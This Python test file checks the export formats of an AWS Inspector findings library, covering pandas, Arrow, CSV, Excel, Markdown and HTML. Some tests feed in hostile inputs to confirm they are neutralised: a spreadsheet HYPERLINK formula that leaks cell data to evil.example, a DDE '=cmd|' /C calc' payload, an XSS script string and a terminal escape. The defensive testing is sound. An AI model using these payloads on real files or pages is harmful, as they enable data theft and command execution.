"""inspector_kit.formats: flat records, DataFrames, Arrow, CSV, JSON, Markdown and Excel."""

from __future__ import annotations

import csv
import inspect
import io
import json
import pathlib
import subprocess
import sys
from datetime import date, datetime, timezone
from decimal import Decimal
from typing import Any

import pytest

from inspector_kit import Finding, InspectorKitError, load_findings, sample_findings
from inspector_kit import formats as fm
from inspector_kit.pricing import PriceTable, Usage, estimate
from inspector_kit.sample import sample_inventory
from inspector_kit.scoring import rescore_all
from inspector_kit.testing import finding_payload
from inspector_kit.triage import BusinessCalendar, TriagePolicy, rank, rollup_by_cve

NOW = datetime(2026, 11, 22, tzinfo=timezone.utc)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
]
PLAIN = ["hello", "CVE-2024-0001", "a=b", "", "1+1"]


class Rows:
    """A Records result of your own (columns + to_records()): what the formats accept."""

    def __init__(self, rows: list[dict[str, Any]]) -> None:
        self.rows = rows

    @property
    def columns(self) -> tuple[str, ...]:
        return tuple(dict.fromkeys(key for row in self.rows for key in row))

    def to_records(self) -> list[dict[str, Any]]:
        return self.rows


def hostile_rows() -> Rows:
    rows: list[dict[str, Any]] = [{"text": text, "number": None} for text in HOSTILE + PLAIN]
    rows += [{"text": None, "number": n} for n in (-2, -1.5, Decimal("-3.25"), 7)]
    return Rows(rows)


@pytest.fixture(scope="module")
def findings() -> list[Finding]:
    return list(sample_findings())


# ----------------------------------------------------------------------------- records


def test_finding_columns_are_exact(findings: list[Finding]) -> None:
    assert fm.FINDING_COLUMNS == (
        "finding_arn",
        "aws_account_id",
        "region",
        "type",
        "severity",
        "status",
        "title",
        "vulnerability_id",
        "inspector_score",
        "epss_score",
        "exploit_available",
        "fix_available",
        "first_observed_at",
        "last_observed_at",
        "updated_at",
        "resource_type",
        "resource_id",
        "resource_short_name",
        "packages",
        "purls",
        "fixed_in",
        "remediation",
        "cvss_vector",
        "cvss_version",
        "cvss_source",
        "cvss_score",
    )
    rows = fm.to_records(sample_findings())  # a one-shot LoadedFindings is fine
    assert len(rows) == len(findings) == 274
    flat = (str, int, float, bool, datetime, date, Decimal, type(None))
    for row, finding in zip(rows, findings, strict=True):
        assert tuple(row) == fm.FINDING_COLUMNS
        assert all(isinstance(v, flat) for v in row.values())
        assert all(type(v) is str for v in (row["severity"], row["status"], row["type"]))
        assert row["finding_arn"] == finding.finding_arn
        assert row["first_observed_at"].tzinfo is not None
        assert row["resource_id"] == finding.primary_resource.id
    assert {r["type"] for r in rows} == {
        "PACKAGE_VULNERABILITY",
        "NETWORK_REACHABILITY",
        "CODE_VULNERABILITY",
    }


def test_finding_packages_and_purls_are_joined(findings: list[Finding]) -> None:
    f = Finding.from_api(
        finding_payload(
            packageVulnerabilityDetails={
                "vulnerabilityId": "CVE-2023-38545",
                "source": "NVD",
                "vulnerablePackages": [
                    {"name": "curl", "version": "8.0.1", "packageManager": "OS"},
                    {"name": "libcurl", "version": "8.0.1", "packageManager": "OS"},
                    {"name": "curl", "version": "8.0.2", "packageManager": "OS"},
                ],
            }
        )
    )
    (row,) = fm.to_records(f)
    assert row["packages"] == "curl;libcurl"
    with_purl = next(f for f in findings if any(f.purls))
    purls = ";".join(dict.fromkeys(str(p) for p in with_purl.purls if p is not None))
    assert fm.to_records(with_purl)[0]["purls"] == purls
    assert purls.startswith("pkg:")
    net = Finding.from_api(finding_payload(type="NETWORK_REACHABILITY"))
    assert fm.to_records(net)[0]["packages"] is None


def test_rescores_rows(findings: list[Finding]) -> None:
    rescores = rescore_all(findings, default="INTERNAL")
    rows = fm.to_records(rescores)
    assert len(rows) == len(findings)
    assert all(tuple(r) == fm.RESCORE_COLUMNS for r in rows)
    changed = next(r for r in rescores if r.adjustments)
    row = fm.to_records(changed)[0]
    assert row["exposure"] == "INTERNAL"
    assert row["adjustments"] == ";".join(str(a) for a in changed.adjustments)
    assert row["severity_changed"] is changed.severity_changed
    assert any(r["reason"] for r in rows)  # network findings: nothing computed, and why


def test_coverage_report_records() -> None:
    report = sample_inventory().analyze()
    rows = fm.to_records(report)
    assert rows == report.to_records()
    assert len(rows) == len(report) == 31
    assert list(rows[0])[:4] == ["account_id", "region", "instance_id", "name"]
    assert fm.to_records(report.instances[0]) == [report.instances[0].to_record()]


def test_cost_estimate_and_price_table_records() -> None:
    cost = estimate(Usage(agent_based_hours=720, agentless_hours=1440), region="us-east-1")
    rows = fm.to_records(cost)
    assert [r["item"] for r in rows] == ["ec2_agent_based", "ec2_agentless"]
    assert list(rows[0]) == [
        "region",
        "item",
        "quantity",
        "unit",
        "price",
        "currency",
        "amount",
        "formula",
        "source",
        "as_of",
    ]
    assert rows[0]["amount"] == Decimal("1.2528")
    assert fm.to_records(PriceTable.bundled()) == PriceTable.bundled().to_records()


def test_triage_plan_and_rank_records(findings: list[Finding]) -> None:
    active = [f for f in findings if f.status == "ACTIVE"]
    plan = TriagePolicy.default().plan(active, calendar=BusinessCalendar("US"), now=NOW)
    rows = fm.to_records(plan)
    assert rows == plan.to_records()
    assert list(rows[0]) == [
        "finding_arn",
        "aws_account_id",
        "region",
        "resource_id",
        "vulnerability_id",
        "severity",
        "status",
        "queue",
        "rule",
        "due",
        "kev_due",
        "overdue",
        "due_today",
        "days_overdue",
        "first_seen_unknown",
        "review_decision",
        "reviewed_at",
        "reviewer",
        "why",
    ]
    ranked = rank(active)
    assert fm.to_records(ranked) == [r.to_record() for r in ranked]
    assert fm.to_records(rollup_by_cve(ranked)) == [r.to_record() for r in rollup_by_cve(ranked)]


@pytest.mark.parametrize("bad", [42, "findings.json", b"{}", {1: "a"}, [1], [object()], None])
def test_unconvertible_input_is_a_type_error(bad: object) -> None:
    with pytest.raises(TypeError, match="cannot convert"):
        fm.to_records(bad)


def test_type_error_names_the_type() -> None:
    with pytest.raises(TypeError, match=r"^cannot convert int \(an item of list\)"):
        fm.to_records([Finding.from_api(finding_payload()), 3])
    with pytest.raises(TypeError, match=r"column 'nested' of Rows holds a list"):
        fm.to_records(Rows([{"nested": [1, 2]}]))
    with pytest.raises(TypeError, match=r"Rows gave a tuple row"):
        fm.to_records(Rows([("a", 1)]))  # type: ignore[list-item]


# ----------------------------------------------------------------------------- frames


def test_to_pandas_dtypes(findings: list[Finding]) -> None:
    pd = pytest.importorskip("pandas")
    df = fm.to_pandas(findings)
    assert list(df.columns) == list(fm.FINDING_COLUMNS)
    for col in ("severity", "status", "type", "exploit_available", "fix_available"):
        assert df[col].dtype == "category", col
    assert str(df["resource_type"].dtype) == "category"
    for col in ("first_observed_at", "last_observed_at", "updated_at"):
        assert str(df[col].dtype) == "datetime64[ns, UTC]", col
    assert str(df["inspector_score"].dtype) == "Float64"
    assert str(df["epss_score"].dtype) == "Float64"
    assert str(df["title"].dtype) == "string"
    assert df["inspector_score"].isna().any()  # network findings: pd.NA, not NaN
    assert df["first_observed_at"].iloc[0] == pd.Timestamp(findings[0].first_observed_at)
    assert set(df["severity"].dropna()) <= {
        "CRITICAL",
        "HIGH",
        "MEDIUM",
        "LOW",
        "INFORMATIONAL",
        "UNTRIAGED",
    }


def test_to_pandas_other_results(findings: list[Finding]) -> None:
    pytest.importorskip("pandas")
    cov = fm.to_pandas(sample_inventory().analyze())
    assert str(cov["status"].dtype) == "category"
    assert str(cov["expected_method"].dtype) == "category"
    assert str(cov["mismatch"].dtype) == "boolean"
    assert str(cov["last_scanned_at"].dtype) == "datetime64[ns, UTC]"
    cost = fm.to_pandas(estimate(Usage(agent_based_hours=720), region="us-east-1"))
    assert cost["amount"].dtype == object and cost["amount"][0] == Decimal("1.2528")
    assert str(cost["item"].dtype) == "category"
    ranked = fm.to_pandas(rank(findings))
    assert str(ranked["rank"].dtype) == "Int64"
    assert str(ranked["exposure"].dtype) == "Float64"  # a number here, not categorical
    assert fm.to_pandas([]).empty


def test_to_arrow_schema(findings: list[Finding]) -> None:
    pa = pytest.importorskip("pyarrow")
    table = fm.to_arrow(findings)
    assert table.column_names == list(fm.FINDING_COLUMNS)
    schema = table.schema
    assert schema.field("severity").type == pa.dictionary(pa.int32(), pa.string(), ordered=True)
    assert schema.field("type").type == pa.dictionary(pa.int32(), pa.string())
    severity = table.column("severity").combine_chunks()
    assert severity.dictionary.to_pylist()[-1] == "CRITICAL"
    assert severity.to_pylist() == [str(f.severity) for f in findings]
    back = table.to_pandas()
    assert back["severity"].cat.ordered and back["severity"].max() == "CRITICAL"
    assert schema.field("first_observed_at").type == pa.timestamp("us", tz="UTC")
    assert schema.field("updated_at").type == pa.timestamp("us", tz="UTC")
    assert schema.field("inspector_score").type == pa.float64()
    assert schema.field("finding_arn").type == pa.string()
    cost = fm.to_arrow(estimate(Usage(agent_based_hours=720), region="us-east-1"))
    assert pa.types.is_decimal(cost.schema.field("amount").type)
    assert cost.column("amount")[0].as_py() == Decimal("1.2528")
    assert cost.schema.field("as_of").type == pa.date32()
    cov = fm.to_arrow(sample_inventory().analyze())
    assert cov.schema.field("billed").type == pa.bool_()


@pytest.mark.parametrize(
    ("module", "extra", "call"),
    [
        ("pandas", "pandas", lambda items, tmp: fm.to_pandas(items)),
        ("pyarrow", "arrow", lambda items, tmp: fm.to_arrow(items)),
        ("openpyxl", "excel", lambda items, tmp: fm.write_excel(items, tmp / "x.xlsx")),
    ],
)
def test_missing_extra(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Any, module: str, extra: str, call: Any
) -> None:
    monkeypatch.setitem(sys.modules, module, None)
    with pytest.raises(fm.MissingExtraError) as info:
        call([Finding.from_api(finding_payload())], tmp_path)
    err = info.value
    assert isinstance(err, ImportError) and isinstance(err, InspectorKitError)
    assert f"pip install 'inspector-kit[{extra}]'" in str(err)
    assert err.module == module and err.extra == extra
    assert isinstance(err.__cause__, ImportError)


def test_import_does_not_load_the_extras() -> None:
    code = (
        "import sys, inspector_kit.formats; "
        "print(sorted(m for m in ('pandas', 'pyarrow', 'openpyxl') if m in sys.modules))"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "[]"


# ----------------------------------------------------------------------------- text


def test_csv_neutralises_formulas_and_keeps_numbers() -> None:
    text = fm.to_csv(hostile_rows())
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    texts = [r["text"] for r in rows[: len(HOSTILE) + len(PLAIN)]]
    assert texts == ["'" + h for h in HOSTILE] + PLAIN
    assert [r["number"] for r in rows[len(HOSTILE) + len(PLAIN) :]] == ["-2", "-1.5", "-3.25", "7"]


def test_csv_of_findings(findings: list[Finding]) -> None:
    f = Finding.from_api(finding_payload(title="@SUM(1+1)", inspectorScore=9.8))
    (row,) = csv.DictReader(io.StringIO(fm.to_csv(f), newline=""))
    assert row["title"] == "'@SUM(1+1)"
    assert row["inspector_score"] == "9.8"
    assert row["first_observed_at"] == "2026-10-01T08:00:00+00:00"
    reader = csv.reader(io.StringIO(fm.to_csv(findings), newline=""))
    assert tuple(next(reader)) == fm.FINDING_COLUMNS
    assert sum(1 for _ in reader) == len(findings)
    assert fm.to_csv([]) == ""


def test_json_round_trips_findings(findings: list[Finding], tmp_path: Any) -> None:
    assert list(load_findings(fm.to_json(findings), strict=True)) == findings
    assert list(load_findings(fm.to_jsonl(findings), strict=True)) == findings
    assert fm.to_jsonl(findings).count("\n") == len(findings)
    fm.write_json(findings, tmp_path / "f.json")
    fm.write_jsonl(iter(findings), tmp_path / "f.jsonl")  # one-shot iterables are fine
    assert list(load_findings(tmp_path / "f.json", strict=True)) == findings
    assert list(load_findings(tmp_path / "f.jsonl", strict=True)) == findings
    one = findings[0]
    assert list(load_findings(fm.to_json(one))) == [one]
    assert json.loads(fm.to_json([])) == []


def test_json_of_records_is_plain() -> None:
    cost = estimate(Usage(agent_based_hours=720), region="us-east-1")
    (row,) = json.loads(fm.to_json(cost))
    assert row["amount"] == "1.2528" and row["as_of"] == "2024-04-01"
    (cov,) = (
        json.loads(line)
        for line in fm.to_jsonl(sample_inventory().analyze().instances[:1]).splitlines()
    )
    assert cov["last_scanned_at"].endswith("+00:00")
    mixed = [Finding.from_api(finding_payload()), hostile_rows()]
    assert json.loads(fm.to_json(mixed))[0]["finding_arn"]  # not all findings: records


def test_markdown_escapes_pipes_and_newlines() -> None:
    rows = Rows(
        [
            {"a": "x|y", "b": "line1\nline2\r\nline3", "c": None},
            {"a": "back\\slash", "b": True, "c": Decimal("1E+2")},
        ]
    )
    lines = fm.to_markdown(rows).splitlines()
    assert lines == [
        "| a | b | c |",
        "| --- | --- | --- |",
        "| x\\|y | line1<br>line2<br>line3 |  |",
        "| back\\\\slash | true | 100 |",
    ]
    assert fm.to_markdown([]) == ""


def test_markdown_of_findings(findings: list[Finding], tmp_path: Any) -> None:
    text = fm.to_markdown(findings)
    lines = text.splitlines()
    assert len(lines) == len(findings) + 2
    assert all(line.count(" | ") == len(fm.FINDING_COLUMNS) - 1 for line in lines)
    fm.write_markdown(findings, tmp_path / "f.md")
    assert (tmp_path / "f.md").read_text(encoding="utf-8") == text


def test_write_csv(findings: list[Finding], tmp_path: Any) -> None:
    fm.write_csv(findings, tmp_path / "f.csv")
    assert (tmp_path / "f.csv").read_bytes() == fm.to_csv(findings).encode()


# ----------------------------------------------------------------------------- excel


def test_excel_cells_are_strings_not_formulas(tmp_path: Any) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    at = datetime(2026, 1, 2, 3, 4, tzinfo=timezone.utc)
    rows = [*hostile_rows().rows, {"text": "bell\x07", "number": None, "at": at}]
    fm.write_excel(Rows(rows), tmp_path / "x.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "x.xlsx")["records"]
    values = list(sheet.iter_rows(values_only=True))
    assert values[0] == ("text", "number", "at")
    n = len(HOSTILE)
    # XML turns a stored carriage return into a line feed when the workbook is read back.
    assert [v[0] for v in values[1 : n + 1]] == ["'" + h.replace("\r", "\n") for h in HOSTILE]
    assert all(row[0].data_type != "f" for row in sheet.iter_rows(min_row=2, max_col=1))
    assert sheet["A2"].data_type == "s"  # the =HYPERLINK(...) cell: a string
    assert [v[1] for v in values[-5:-1]] == [-2, -1.5, -3.25, 7]
    assert values[-1] == ("bell", None, datetime(2026, 1, 2, 3, 4))


def test_excel_of_findings(findings: list[Finding], tmp_path: Any) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    fm.write_excel(findings, tmp_path / "f.xlsx", sheet_name="findings")
    sheet = openpyxl.load_workbook(tmp_path / "f.xlsx")["findings"]
    assert tuple(c.value for c in sheet[1]) == fm.FINDING_COLUMNS
    assert sheet.max_row == len(findings) + 1
    assert sheet.cell(row=2, column=1).value == findings[0].finding_arn


# ----------------------------------------------------------------------------- issue 18 item 5


def test_fixed_in_and_remediation_columns() -> None:
    package = {
        "name": "curl",
        "version": "8.2.1",
        "fixedInVersion": "0:8.3.0-1.amzn2023",
        "remediation": "dnf update curl",
    }
    payload = finding_payload(
        packageVulnerabilityDetails={
            "source": "NVD",
            "vulnerabilityId": "CVE-2023-38545",
            "vulnerablePackages": [package],
        },
        remediation={"recommendation": {"text": "Update curl."}},
    )
    row = fm.to_records(Finding.from_api(payload))[0]
    assert row["fixed_in"] == "curl 0:8.3.0-1.amzn2023"
    assert row["remediation"] == "dnf update curl"  # the package's command first
    # No fix: Inspector's "NotAvailable" is not a version; the recommendation text is used.
    package.update(fixedInVersion="NotAvailable")
    del package["remediation"]
    row = fm.to_records(Finding.from_api(payload))[0]
    assert row["fixed_in"] is None and row["remediation"] == "Update curl."
    payload["remediation"] = {"recommendation": {"text": "None Provided"}}
    assert fm.to_records(Finding.from_api(payload))[0]["remediation"] is None


def test_fixed_in_on_the_sample(findings: list[Finding]) -> None:
    rows = fm.to_records(findings)
    with_fix = [f for f in findings if any(p.has_fix for p in f.vulnerable_packages)]
    assert with_fix and sum(1 for r in rows if r["fixed_in"]) == len(with_fix)
    assert all("NotAvailable" not in (r["fixed_in"] or "") for r in rows)


def test_severity_is_an_ordered_categorical(findings: list[Finding]) -> None:
    pytest.importorskip("pandas")
    df = fm.to_pandas(findings)
    assert df["severity"].cat.ordered
    assert list(df["severity"].cat.categories) == [
        "UNTRIAGED",
        "INFORMATIONAL",
        "LOW",
        "MEDIUM",
        "HIGH",
        "CRITICAL",
    ]
    rank = {"UNTRIAGED": 0, "INFORMATIONAL": 1, "LOW": 2, "MEDIUM": 3, "HIGH": 4, "CRITICAL": 5}
    ordered = list(df.sort_values("severity", ascending=False)["severity"].astype(str))
    assert ordered == sorted(ordered, key=rank.__getitem__, reverse=True)
    assert ordered[0] == "CRITICAL" and ordered[-1] == "UNTRIAGED"
    high_or_worse = df[df["severity"] >= "HIGH"]
    assert len(high_or_worse) == sum(1 for f in findings if f.severity in ("HIGH", "CRITICAL"))
    assert df["status"].cat.ordered
    assert list(df["status"].cat.categories) == ["ACTIVE", "SUPPRESSED", "CLOSED"]
    statuses = list(df.sort_values("status")["status"].astype(str))
    assert statuses.index("SUPPRESSED") > statuses.index("ACTIVE")
    assert statuses[-1] == "CLOSED"


def test_ordered_categories_unknown_values_and_other_statuses() -> None:
    pytest.importorskip("pandas")
    df = fm.to_pandas([{"severity": "SEVERE"}, {"severity": "LOW"}, {"severity": None}])
    assert list(df["severity"].cat.categories)[:2] == ["SEVERE", "UNTRIAGED"]  # unknown: lowest
    cov = fm.to_pandas(sample_inventory().analyze())
    assert not cov["status"].cat.ordered  # coverage statuses are not finding statuses
    rescored = fm.to_pandas(rescore_all(list(sample_findings())[:20], {}))
    assert rescored["base_severity"].cat.ordered


def test_excel_safe_frame_goes_through_to_excel(findings: list[Finding], tmp_path: Any) -> None:
    pd = pytest.importorskip("pandas")
    openpyxl = pytest.importorskip("openpyxl")
    df = fm.to_pandas(findings)
    with pytest.raises(ValueError, match=r"[Tt]imezones"):
        df.to_excel(tmp_path / "plain.xlsx")  # the reason for excel_safe
    safe = fm.to_pandas([*findings, {"title": "=1+2"}], excel_safe=True)
    assert str(safe["first_observed_at"].dtype) == "datetime64[ns]"
    first = findings[0].first_observed_at
    assert first is not None
    expected = pd.Timestamp(first.astimezone(timezone.utc).replace(tzinfo=None))
    assert safe["first_observed_at"].iloc[0] == expected
    safe.to_excel(tmp_path / "safe.xlsx", index=False)
    sheet = openpyxl.load_workbook(tmp_path / "safe.xlsx").active
    header = [c.value for c in sheet[1]]
    title = header.index("title") + 1
    last = sheet.cell(row=sheet.max_row, column=title)
    assert last.value == "'=1+2" and last.data_type == "s"


def test_writers_accept_a_dataframe(findings: list[Finding], tmp_path: Any) -> None:
    pytest.importorskip("pandas")
    openpyxl = pytest.importorskip("openpyxl")
    df = fm.to_pandas(findings)
    critical = df[df["severity"] == "CRITICAL"].sort_values("inspector_score")
    fm.write_csv(critical, tmp_path / "c.csv")
    rows = list(csv.DictReader(io.StringIO((tmp_path / "c.csv").read_text(encoding="utf-8"))))
    assert len(rows) == sum(1 for f in findings if f.severity == "CRITICAL")
    assert list(rows[0]) == list(fm.FINDING_COLUMNS)
    assert {r["severity"] for r in rows} == {"CRITICAL"}
    by_arn = {f.finding_arn: f for f in findings}
    first = by_arn[rows[0]["finding_arn"]]
    assert first.first_observed_at is not None
    assert rows[0]["first_observed_at"] == first.first_observed_at.isoformat()
    fm.write_excel(critical, tmp_path / "c.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "c.xlsx")["records"]
    assert sheet.max_row == len(rows) + 1
    assert tuple(c.value for c in sheet[1]) == fm.FINDING_COLUMNS
    column = fm.FINDING_COLUMNS.index("first_observed_at") + 1
    written = sheet.cell(row=2, column=column).value
    assert written == first.first_observed_at.astimezone(timezone.utc).replace(tzinfo=None)


def test_dataframe_writers_keep_formula_injection_safety(tmp_path: Any) -> None:
    pd = pytest.importorskip("pandas")
    openpyxl = pytest.importorskip("openpyxl")
    df = pd.DataFrame({"=cmd": HOSTILE, "n": range(len(HOSTILE))})
    text = fm.to_csv(df)
    parsed = list(csv.reader(io.StringIO(text)))
    assert parsed[0] == ["'=cmd", "n"]
    assert [r[0] for r in parsed[1:]] == ["'" + h for h in HOSTILE]
    assert [r[1] for r in parsed[1:]] == [str(i) for i in range(len(HOSTILE))]  # numbers
    fm.write_excel(df, tmp_path / "h.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "h.xlsx")["records"]
    assert sheet["A1"].value == "'=cmd"
    assert all(c.data_type == "s" for (c,) in sheet.iter_rows(min_row=2, max_col=1))
    assert [c.value for (c,) in sheet.iter_rows(min_row=2, min_col=2, max_col=2)] == list(
        range(len(HOSTILE))
    )


def test_dataframe_missing_values_are_empty() -> None:
    pd = pytest.importorskip("pandas")
    df = pd.DataFrame(
        {
            "n": pd.array([1, None], dtype="Int64"),
            "x": [1.5, float("nan")],
            "when": pd.to_datetime(["2026-01-02T03:04:05Z", None], utc=True),
            "s": pd.array(["a", None], dtype="string"),
        }
    )
    rows = fm.to_records(df)
    assert rows[1] == {"n": None, "x": None, "when": None, "s": None}
    assert rows[0]["n"] == 1 and type(rows[0]["n"]) is int
    assert rows[0]["when"] == datetime(2026, 1, 2, 3, 4, 5, tzinfo=timezone.utc)
    assert fm.to_csv(df).splitlines()[2] == ",,,"


def test_html_of_findings_puts_useful_columns_first(findings: list[Finding]) -> None:
    html = fm.to_html(findings[:3])
    heads = [h.rsplit(">", 1)[1] for h in html.split("</th>")[:-1]]
    assert tuple(heads) == fm.FINDING_DISPLAY_COLUMNS
    assert heads[0] == "severity" and heads[-1] == "finding_arn"
    assert sorted(fm.FINDING_DISPLAY_COLUMNS) == sorted(fm.FINDING_COLUMNS)
    assert fm.FindingRecords(tuple(findings[:3]))._repr_html_().count("<th style") == len(heads)


# ----------------------------------------------------------------------------- public API


def test_every_public_name_has_an_example() -> None:
    for name in fm.__all__:
        obj = getattr(fm, name)
        if inspect.isfunction(obj) or inspect.isclass(obj):
            assert ">>>" in (obj.__doc__ or ""), name


def test_to_html_escapes_every_string_and_limits_rows(tmp_path: pathlib.Path) -> None:
    from inspector_kit import Finding
    from inspector_kit.formats import to_html, write_html
    from inspector_kit.testing import finding_payload

    hostile = '<script>alert(1)</script>"onmouseover="x'
    findings = [
        Finding.from_api(
            finding_payload(
                title=hostile,
                findingArn=f"arn:aws:inspector2:us-east-1:111122223333:finding/{n:032x}",
            )
        )
        for n in range(3)
    ]
    html = to_html(findings, limit=2)
    assert "<script>" not in html and 'onmouseover="x' not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;&quot;onmouseover=&quot;x" in html
    assert html.count("<tr") == 4  # header, 2 rows and the "1 more row" line
    assert "… and 1 more row" in html
    path = tmp_path / "f.html"
    write_html(findings, path)
    written = path.read_text(encoding="utf-8")
    assert written.count("<tr") == 4 and "more row" not in written  # header and 3 rows


def test_plain_rows_go_through_the_same_writers() -> None:
    from inspector_kit.formats import to_csv, to_records

    assert to_records({"a": 1}) == [{"a": 1}]
    assert to_csv([{"name": "=cmd|' /C calc'!A0", "n": -2}]) == (
        "name,n\r\n'=cmd|' /C calc'!A0,-2\r\n"
    )
    with pytest.raises(TypeError, match="column 'a' of dict holds a list"):
        to_records([{"a": [1]}])


# ----------------------------------------------------------------------------- protocol


def test_records_protocol_and_mixin_on_a_class_of_your_own() -> None:
    class Totals(fm.RecordsMixin):
        columns = ("severity", "count")

        def to_records(self) -> list[dict[str, fm.RecordValue]]:
            return [{"severity": "HIGH", "count": 2}, {"severity": "LOW|x", "count": 10}]

    totals = Totals()
    assert isinstance(totals, fm.Records)
    assert totals.to_text() == ("severity  count\n--------  -----\nHIGH      2\nLOW|x     10\n")
    assert totals.to_markdown().splitlines()[3] == "| LOW\\|x | 10 |"
    assert "<th" in totals._repr_html_() and ">LOW|x</td>" in totals._repr_html_()


def test_to_text_is_terminal_safe_and_limited() -> None:
    rows = Rows([{"title": "a\x1b[2J\nb", "n": 1}, {"title": "c", "n": None}])
    text = fm.to_text(rows)
    assert "\x1b" not in text and "a\\x1b[2J\\nb" in text
    assert text.splitlines()[3].rstrip() == "c"
    limited = fm.to_text(rows, limit=1).splitlines()
    assert limited[-1] == "… and 1 more row" and len(limited) == 4
    assert fm.to_text([]) == ""


def test_finding_records_are_the_records_of_a_list_of_findings(findings: list[Finding]) -> None:
    table = fm.FindingRecords(findings[:3])
    assert isinstance(table, fm.Records) and table.columns == fm.FINDING_COLUMNS
    assert table.to_records() == fm.to_records(findings[:3])
    assert fm.to_csv(table) == fm.to_csv(findings[:3])


def test_records_error_is_a_type_error_and_an_input_error() -> None:
    from inspector_kit.errors import InputError, RecordsError

    with pytest.raises(RecordsError) as caught:
        fm.to_records(object())
    assert isinstance(caught.value, TypeError) and isinstance(caught.value, InputError)


def test_declared_columns_give_the_html_header_of_an_empty_result() -> None:
    from inspector_kit.history import diff

    html = fm.to_html(diff([], []))
    assert ">change</th>" in html and ">finding_arn</th>" in html
    assert fm.to_markdown(diff([], [])) == "" and fm.to_csv(diff([], [])) == ""
